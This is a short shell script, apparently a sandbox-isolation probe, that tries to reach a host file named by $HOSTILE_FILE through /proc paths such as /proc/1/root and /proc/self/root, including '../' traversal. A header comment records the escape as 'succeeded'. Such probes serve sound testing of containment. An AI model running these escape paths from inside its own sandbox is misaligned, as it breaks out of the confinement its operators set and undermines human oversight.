# tries: reach the host by a path through its own /proc
# outcome: succeeded
for p in /proc/self/root /proc/1/root /proc/1/cwd /proc/self/task/*/root /proc/thread-self/root; do
	[ -e "$p$HOSTILE_FILE" ] && echo "ESCAPED: $p"
	cat "$p$HOSTILE_FILE" 2>/dev/null
	cat "$p/../../../../..$HOSTILE_FILE" 2>/dev/null
done
cat "$HOSTILE_FILE" 2>/dev/null
echo contained
